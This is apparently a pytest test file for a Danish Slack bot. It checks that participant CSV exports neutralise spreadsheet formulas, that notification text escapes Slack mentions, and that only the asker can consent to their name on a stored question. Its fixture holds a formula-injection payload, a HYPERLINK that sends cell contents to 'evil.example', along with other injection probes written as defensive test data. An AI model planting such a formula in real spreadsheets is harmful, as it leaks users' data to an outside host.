"""What leaves the bot is inert: the /deltagere CSV runs no formula in Excel, a message's
notification text is escaped like its blocks, and only the asker can put their name on a stored
question (the button is shown to them alone)."""
from __future__ import annotations

import csv
import io

import pytest

from bot.slack.blocks.answers import CONSENT_ACTION
from bot.slack.blocks.reminders import CREATE_CALLBACK
from bot.storage.models.feedback import QuestionLog
from tests.slack.enrolment_support import add_mayor, add_session, dm_to, dms_sent_before_slack_stops  # noqa: F401 (autouse)
from tests.slack_harness.fake_slack import ApiCall, FakeSlack
from tests.slack_harness.fixtures import RunningSlackApp
from tests.slack_harness.signed_requests import SlackRequests

FORMULA_NAMES = {
    "U0M1": '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
    "U0M2": "+45 1234 5678",
    "U0M3": "-2+3",
    "U0M4": "@SUM(A1:A9)",
    "U0M5": "\tTabulator",
    "U0M6": "\rVognretur",
    "U0M7": "Anne-Marie Ærø",
}


def test_the_participants_csv_runs_no_formula(slack: SlackRequests, fake_slack: FakeSlack, slack_app: RunningSlackApp) -> None:
    services = slack_app.services
    session = add_session(services, capacity=20)
    for user, name in FORMULA_NAMES.items():
        add_mayor(services, user, name=name)
        services.enrolment.enrol(user, session.id)

    slack.command("/deltagere", "mødeledelse", user="U0STAFF")
    fake_slack.wait_for("files.completeUploadExternal", lambda c: c.args.get("channel_id") == "D0STAFF")
    [upload] = [u for u in fake_slack.uploads if u.filename.endswith(".csv")]
    rows = list(csv.reader(io.StringIO(upload.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    names = {row[3] for row in rows[1:]}
    assert names == {("'" + n if n[0] in "=+-@\t\r" else n) for n in FORMULA_NAMES.values()}


def _all_texts(fake_slack: FakeSlack) -> list[str]:
    """The ``text`` argument of every message the bot sent: what notifications show."""
    return [str(c.args.get("text", "")) for c in fake_slack.calls() if c.method in ("chat.postMessage", "chat.update", "response_url")]


def test_a_staff_dm_echoing_a_network_name_is_escaped_in_its_notification_text(
    slack: SlackRequests, fake_slack: FakeSlack, slack_app: RunningSlackApp
) -> None:
    name = "<!channel> Nord & <@U0BO>"
    values = {"name": {"value": {"type": "plain_text_input", "value": name}}}
    assert slack.view_submission(CREATE_CALLBACK, values, user="U0STAFF").status == 200
    [told] = fake_slack.wait_for("chat.postMessage", lambda c: "oprettet" in c.args.get("text", ""))
    assert "&lt;!channel&gt; Nord &amp; &lt;@U0BO&gt;" in told.args["text"]
    assert [t for t in _all_texts(fake_slack) if "<!channel>" in t or "<@U0BO>" in t] == []


def _consent_buttons(call: ApiCall) -> list[str]:
    return [e["value"] for b in call.blocks for e in b.get("elements", []) if e.get("action_id") == CONSENT_ACTION]


def _logged_user_ids(slack_app: RunningSlackApp) -> list[str | None]:
    with slack_app.services.db.session() as session:
        return [row.user_id for row in session.query(QuestionLog).order_by(QuestionLog.id)]


def test_in_a_channel_the_consent_button_goes_to_the_asker_alone(
    slack: SlackRequests, fake_slack: FakeSlack, slack_app: RunningSlackApp
) -> None:
    slack.mention("Hvordan bliver vejret i morgen?", channel="C0BORGMESTRE", user="U0ANNA")
    [public] = fake_slack.wait_for("chat.postMessage", lambda c: c.args["channel"] == "C0BORGMESTRE")
    assert "Det ved jeg ikke" in public.text and _consent_buttons(public) == []
    [private] = fake_slack.wait_for("chat.postMessage", lambda c: c.args["channel"] == "D0ANNA")
    assert fake_slack.calls("conversations.open")[0].args["users"] == "U0ANNA"
    [value] = _consent_buttons(private)

    # Clicked where only Anna sees it (her DM), it takes her name.
    slack.block_action(CONSENT_ACTION, value, user="U0ANNA", channel="D0ANNA")
    fake_slack.wait_for("response_url", lambda c: "kan nu se" in c.args.get("text", ""))
    assert _logged_user_ids(slack_app) == ["U0ANNA"]


def test_the_consent_offered_after_a_thumbs_down_in_a_thread_works_in_its_ephemeral_reply(
    slack: SlackRequests, fake_slack: FakeSlack, slack_app: RunningSlackApp
) -> None:
    """👎 on a public answer answers the voter ephemerally, with the consent button: theirs alone."""
    vote = '{"q": "Hvad koster mentorordningen?", "o": ["mentorordning"]}'
    slack.block_action("feedback_unhelpful", vote, user="U0ANNA", channel="C0BORGMESTRE")
    [noted] = fake_slack.wait_for("response_url")
    assert noted.args["response_type"] == "ephemeral"
    [value] = _consent_buttons(noted)
    slack.block_action(CONSENT_ACTION, value, user="U0ANNA", channel="C0BORGMESTRE", ephemeral=True)
    fake_slack.wait_for("response_url", lambda c: "kan nu se" in c.args.get("text", ""))
    assert _logged_user_ids(slack_app) == ["U0ANNA"]


@pytest.mark.parametrize("where", ["public message", "someone else's entry"])
def test_nobody_else_can_put_their_name_on_a_question(
    slack: SlackRequests, fake_slack: FakeSlack, slack_app: RunningSlackApp, where: str
) -> None:
    slack.direct_message("Hvordan bliver vejret i morgen?", user="U0ANNA")
    [reply] = fake_slack.wait_for("chat.postMessage", dm_to("U0ANNA"))
    [value] = _consent_buttons(reply)
    if where == "public message":
        # An old answer in a channel thread, from before the button moved: refused for anyone.
        slack.block_action(CONSENT_ACTION, value, user="U0BO", channel="C0BORGMESTRE")
        [refused] = fake_slack.wait_for("response_url")
        assert "kun i din private samtale" in refused.args["text"] and _logged_user_ids(slack_app) == [None]
    else:
        # A name once given stays: a later consent on the same entry does not replace it.
        slack.block_action(CONSENT_ACTION, value, user="U0ANNA", channel="D0ANNA")
        fake_slack.wait_for("response_url", lambda c: "kan nu se" in c.args.get("text", ""))
        slack.block_action(CONSENT_ACTION, value, user="U0BO", channel="D0BO")
        fake_slack.wait_for("response_url", count=2)
        assert _logged_user_ids(slack_app) == ["U0ANNA"]
